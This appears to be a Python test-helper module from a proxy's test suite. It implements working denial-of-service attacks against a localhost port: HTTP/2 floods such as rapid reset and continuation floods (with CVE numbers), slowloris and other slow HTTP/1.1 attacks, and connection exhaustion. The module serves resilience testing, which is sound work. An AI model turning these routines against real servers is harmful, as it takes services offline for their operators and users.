"""Attacks on one address, each for so many seconds: `await ATTACKS[name](port, seconds)`.

Each opens connections as fast as the proxy ends them, and is strong enough to bring down who keeps no bounds. They are
used by the tests beside this file, and by whoever wants to know what an honest client feels meanwhile. Nothing is
asserted here, and nothing of what they ask for is `/ok`, which honest clients ask for.
"""

import contextlib
import socket
import struct
from collections.abc import Awaitable, Callable

import trio

from tests.hostile import frames
from tests.hostile.frames import PREFACE, SETTINGS_ACK, frame, headers, settings

Attack = Callable[[int, float], Awaitable[None]]
EVIL = b"/evil"
BIG = b"/big"
"""What an attacker asks for who wants much: the application has to serve it."""
BURST = 64 * 1024
READ = 1 << 18
GREETING = PREFACE + settings() + SETTINGS_ACK


async def connect(port: int, buffer: int = 0) -> trio.SocketStream:
    """A connection; `buffer` bytes of receive buffer make it a slow reader's (0: the kernel's usual)."""
    sock = trio.socket.socket()
    try:
        if buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        await sock.connect(("127.0.0.1", port))
    except BaseException:
        sock.close()
        raise
    return trio.SocketStream(sock)


async def drop(stream: trio.SocketStream) -> None:
    """Go without a goodbye."""
    with contextlib.suppress(OSError):
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    await trio.aclose_forcefully(stream)


async def pour(port: int, seconds: float, opening: bytes, flood: Callable[[int], bytes], *, read: bool = True) -> None:
    """Send `opening`, then `flood(0)`, `flood(1)` and so on, until the proxy ends the connection; then again."""
    with trio.move_on_after(seconds):
        while True:
            stream = await connect(port)
            try:
                async with trio.open_nursery() as nursery:
                    if read:
                        nursery.start_soon(swallow, stream, nursery.cancel_scope)
                    await stream.send_all(opening)
                    turn = 0
                    while True:
                        await stream.send_all(flood(turn))
                        turn += 1
            except* (trio.BrokenResourceError, trio.ClosedResourceError):
                pass  # which is what should happen
            finally:
                await drop(stream)
            await trio.sleep(0.005)  # or an attacker on the same machine is only heard by itself


async def swallow(stream: trio.SocketStream, scope: trio.CancelScope) -> None:
    """Read all that comes, and end the scope with the connection."""
    with contextlib.suppress(trio.BrokenResourceError):
        while await stream.receive_some(READ):
            pass
    scope.cancel()


def repeated(piece: bytes) -> Callable[[int], bytes]:
    """A flood of one piece."""
    burst = piece * max(1, BURST // len(piece))
    return lambda turn: burst


def by_stream(piece: Callable[[int], bytes], streams: int = 200) -> Callable[[int], bytes]:
    """A flood of new streams, so many in each burst."""
    return lambda turn: b"".join(piece(2 * (turn * streams + one) + 1) for one in range(streams))


# --- HTTP/2 -------------------------------------------------------------------------------------

_EVIL = frames.block(frames.request(EVIL))


async def rapid_reset(port: int, seconds: float) -> None:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    await pour(port, seconds, GREETING, by_stream(lambda stream: headers(stream, _EVIL) + frames.reset(stream)))


async def made_you_reset(port: int, seconds: float) -> None:
    """Streams that the proxy must reset, since their window does not grow by nothing (CVE-2025-8671)."""
    await pour(
        port, seconds, GREETING, by_stream(lambda one: headers(one, _EVIL, end=False) + frames.window_update(one, 0))
    )


async def made_you_refuse(port: int, seconds: float) -> None:
    """The same by bodies that are longer than they said."""
    lying = frames.block(frames.request(EVIL, b"POST", [(b"content-length", b"1")]))
    long = b"too long"
    await pour(
        port,
        seconds,
        GREETING,
        by_stream(lambda stream: headers(stream, lying, end=False) + frame(frames.DATA, 0, stream, long)),
    )


async def continuation_flood(port: int, seconds: float) -> None:
    """A header block without end, of empty pieces (CVE-2024-27316)."""
    opening = GREETING + frame(frames.HEADERS, 0, 1, _EVIL)
    await pour(port, seconds, opening, repeated(frame(frames.CONTINUATION, 0, 1)))


async def continuation_bytes(port: int, seconds: float) -> None:
    """A header block without end, of fields."""
    opening = GREETING + frame(frames.HEADERS, 0, 1, _EVIL)
    piece = frames.block([(b"x", b"a" * 16_000)])
    await pour(port, seconds, opening, repeated(frame(frames.CONTINUATION, 0, 1, piece)))


async def hpack_bomb(port: int, seconds: float) -> None:
    """One field of 4,000 bytes, named a thousand times by one byte each."""
    first = _EVIL + frames.remembered(b"x", b"a" * 4000)

    def flood(turn: int) -> bytes:
        return headers(2 * turn + 1, (first if not turn else _EVIL) + frames.ENTRY_62 * 12_000)

    await pour(port, seconds, GREETING, flood)


async def cookie_crumbs(port: int, seconds: float) -> None:
    """Cookies of one byte on the wire and three in the head, thousands of them."""

    def flood(turn: int) -> bytes:
        crumb = frames.remembered(b"cookie", b"a=b") if not turn else b""
        return headers(2 * turn + 1, _EVIL + crumb + frames.ENTRY_62 * 390)

    await pour(port, seconds, GREETING, flood)


async def ping_flood(port: int, seconds: float) -> None:
    """PINGs that want to be answered; the answers are read."""
    await pour(port, seconds, GREETING, repeated(frame(frames.PING, 0, 0, bytes(8))))


async def unread_pings(port: int, seconds: float) -> None:
    """PINGs whose answers nobody reads, to see who keeps them."""
    await pour(port, seconds, GREETING, repeated(frame(frames.PING, 0, 0, bytes(8))), read=False)


async def settings_flood(port: int, seconds: float) -> None:
    """SETTINGS that want to be acknowledged (CVE-2019-9515)."""
    await pour(port, seconds, GREETING, repeated(settings((4, 65535))))


async def priority_flood(port: int, seconds: float) -> None:
    """PRIORITY for one stream after another (CVE-2019-9513)."""
    await pour(port, seconds, GREETING, repeated(frame(frames.PRIORITY, 0, 1, bytes(4) + b"\x10")))


async def window_update_flood(port: int, seconds: float) -> None:
    """WINDOW_UPDATE by one byte."""
    await pour(port, seconds, GREETING, repeated(frames.window_update(0, 1)))


async def empty_data_flood(port: int, seconds: float) -> None:
    """DATA without data (CVE-2019-9518)."""
    opening = GREETING + headers(1, frames.block(frames.request(EVIL + b"/hold", b"POST")), end=False)
    await pour(port, seconds, opening, repeated(frame(frames.DATA, 0, 1)))


async def unknown_flood(port: int, seconds: float) -> None:
    """Frames of a kind that there is not."""
    await pour(port, seconds, GREETING, repeated(frame(0xCC, 0, 0, bytes(100))))


async def too_many_streams(port: int, seconds: float) -> None:
    """Requests that never end, more than were offered."""
    body = frames.block(frames.request(EVIL + b"/hold", b"POST"))
    await pour(port, seconds, GREETING, by_stream(lambda stream: headers(stream, body, end=False)))


async def window_stall(port: int, seconds: float, connections: int = 4) -> None:
    """Much is asked for, and no window given to send it in; PINGs show that somebody is there."""
    asking = b"".join(frames.get(2 * one + 1, BIG) for one in range(100))
    opening = PREFACE + settings((frames.INITIAL_WINDOW_SIZE, 0)) + SETTINGS_ACK + asking

    async def one() -> None:
        stream = await connect(port)
        try:
            await stream.send_all(opening)
            while True:
                await stream.send_all(frame(frames.PING, 0, 0, bytes(8)))
                await trio.sleep(0.05)
        except trio.BrokenResourceError:
            pass
        finally:
            await drop(stream)

    await together(one, seconds, connections)


async def slow_read_http2(port: int, seconds: float, connections: int = 8) -> None:
    """Much is asked for, windows are wide open, and nothing is read."""
    asking = b"".join(frames.get(2 * one + 1, BIG) for one in range(100))
    wide = settings((frames.INITIAL_WINDOW_SIZE, 2**31 - 1)) + frames.window_update(0, 2**30)
    await mute(port, seconds, connections, PREFACE + wide + SETTINGS_ACK + asking)


async def together(one: Callable[[], Awaitable[None]], seconds: float, connections: int) -> None:
    """So many at a time."""
    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for _ in range(connections):
                nursery.start_soon(one)


async def mute(port: int, seconds: float, connections: int, opening: bytes) -> None:
    """Connections that say something, and then neither speak nor listen."""

    async def one() -> None:
        stream = await connect(port, 4096)
        try:
            with contextlib.suppress(trio.BrokenResourceError):
                await stream.send_all(opening)
            await trio.sleep_forever()
        finally:
            await drop(stream)

    await together(one, seconds, connections)


# --- HTTP/1.1 -----------------------------------------------------------------------------------

_HEAD = b"GET /evil HTTP/1.1\r\nhost: web\r\n"
_POST = b"POST /evil/hold HTTP/1.1\r\nhost: web\r\n"


async def giant_header(port: int, seconds: float) -> None:
    """One field of eight megabytes."""
    await pour(port, seconds, _HEAD + b"x: ", repeated(b"a" * BURST))


async def many_headers(port: int, seconds: float) -> None:
    """A hundred thousand fields."""
    await pour(port, seconds, _HEAD, repeated(b"x: y\r\n"))


async def chunk_extensions(port: int, seconds: float) -> None:
    """A megabyte of chunk extension."""
    await pour(port, seconds, _POST + b"transfer-encoding: chunked\r\n\r\n1;", repeated(b"x" * BURST))


async def chunk_trailers(port: int, seconds: float) -> None:
    """Trailers without end."""
    await pour(port, seconds, _POST + b"transfer-encoding: chunked\r\n\r\n0\r\n", repeated(b"x: y\r\n"))


async def dribbled_heads(port: int, seconds: float, connections: int = 20) -> None:
    """A head of 60 KB, eight bytes at a time: who looks at all of it each time pays the square."""
    whole = _HEAD + b"".join(b"x-%d: %s\r\n" % (one, b"y" * 700) for one in range(85))

    async def one() -> None:
        while True:
            stream = await connect(port)
            try:
                stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for start in range(0, len(whole), 8):
                    await stream.send_all(whole[start : start + 8])
            except trio.BrokenResourceError:
                pass
            finally:
                await drop(stream)

    await together(one, seconds, connections)


async def slowloris(port: int, seconds: float, connections: int = 100) -> None:
    """Heads that never end, a field each now and then."""
    await trickle(port, seconds, connections, _HEAD, b"x: y\r\n")


async def slow_body(port: int, seconds: float, connections: int = 100) -> None:
    """Bodies that hardly come."""
    await trickle(port, seconds, connections, _POST + b"content-length: 1000000\r\n\r\n", b"x")


async def trickle(port: int, seconds: float, connections: int, opening: bytes, drip: bytes) -> None:
    """Connections that go on as slowly as they can."""

    async def one() -> None:
        while True:
            stream = await connect(port)
            try:
                await stream.send_all(opening)
                while True:
                    await trio.sleep(0.2)
                    await stream.send_all(drip)
            except trio.BrokenResourceError:
                pass
            finally:
                await drop(stream)

    await together(one, seconds, connections)


async def slow_read_http1(port: int, seconds: float, connections: int = 50) -> None:
    """Much is asked for, and not read."""
    await mute(port, seconds, connections, b"GET /big HTTP/1.1\r\nhost: web\r\n\r\n")


async def pipelining(port: int, seconds: float) -> None:
    """Requests without end, and no answer is read."""
    await pour(port, seconds, b"", repeated(b"GET /evil HTTP/1.1\r\nhost: web\r\n\r\n"), read=False)


# --- below HTTP ---------------------------------------------------------------------------------


async def half_handshakes(port: int, seconds: float, connections: int = 100) -> None:
    """The first bytes of a TLS handshake; then half of them leave, and half stay and say nothing."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40)
    leaves = 0

    async def one() -> None:
        nonlocal leaves
        while True:
            stream = await connect(port)
            try:
                leaves += 1
                with contextlib.suppress(trio.BrokenResourceError):
                    await stream.send_all(hello)
                    if leaves % 2:
                        await stream.receive_some(1)
            finally:
                await drop(stream)
            await trio.sleep(0.01)

    await together(one, seconds, connections)


async def many_connections(port: int, seconds: float, connections: int = 300) -> None:
    """Connections that are opened, say nothing, and stay."""
    await mute(port, seconds, connections, b"")


HTTP2: dict[str, Attack] = {
    one.__name__: one  # type: ignore[attr-defined]
    for one in (
        *(rapid_reset, made_you_reset, made_you_refuse, continuation_flood, continuation_bytes, hpack_bomb),
        *(cookie_crumbs, ping_flood, unread_pings, settings_flood, priority_flood, window_update_flood),
        *(empty_data_flood, unknown_flood, too_many_streams, window_stall, slow_read_http2),
    )
}
HTTP1: dict[str, Attack] = {
    one.__name__: one  # type: ignore[attr-defined]
    for one in (
        *(giant_header, many_headers, chunk_extensions, chunk_trailers, dribbled_heads, slowloris, slow_body),
        *(slow_read_http1, pipelining),
    )
}
BELOW: dict[str, Attack] = {"many_connections": many_connections, "half_handshakes": half_handshakes}
ATTACKS: dict[str, Attack] = {**HTTP2, **HTTP1, **BELOW}
"""All, by name. `half_handshakes` is for a listener that serves TLS."""
